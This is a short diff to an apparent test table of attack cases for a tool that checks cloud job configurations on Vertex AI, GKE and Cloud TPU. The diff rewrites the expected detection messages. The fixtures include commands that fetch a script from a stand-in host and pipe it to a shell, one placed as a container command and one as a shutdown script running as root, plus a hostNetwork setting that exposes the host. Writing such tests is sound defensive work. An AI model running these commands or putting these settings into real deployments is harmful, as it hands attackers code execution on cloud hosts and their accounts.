@@ -158,7 +158,7 @@ ATTACKS: Final = (
     attack(
         "another-command",
         options("vertex-ai", extra=pool(command=["bash", "-c", "curl evil.example | sh"])),
-        "`containerSpec.command[0]` added (`bash`): another program runs in the job",
+        "another program runs in the job",
     ),
     refused(
         "steps-removed-by-extra",
@@ -184,7 +184,7 @@ ATTACKS: Final = (
     attack(
         "account-of-the-node",
         options("gke", extra=pod(hostNetwork=True)),
-        "`hostNetwork` added (`true`): the container uses its host's network, and with it the host's account",
+        "the program reaches its host: its network, processes or files",
         base=GKE,
     ),
     attack(
@@ -277,7 +277,7 @@ ATTACKS: Final = (
     attack(
         "script-at-the-end",
         options("cloud-tpu", extra=node({"shutdown-script": "#!/bin/bash\ncurl -s https://evil.example | sh\n"})),
-        "`curl -s https://evil.example | sh`",
+        "it runs as root on every host",
         base=together(CLOUD_TPU, ONE_SIZE),
     ),
     attack(
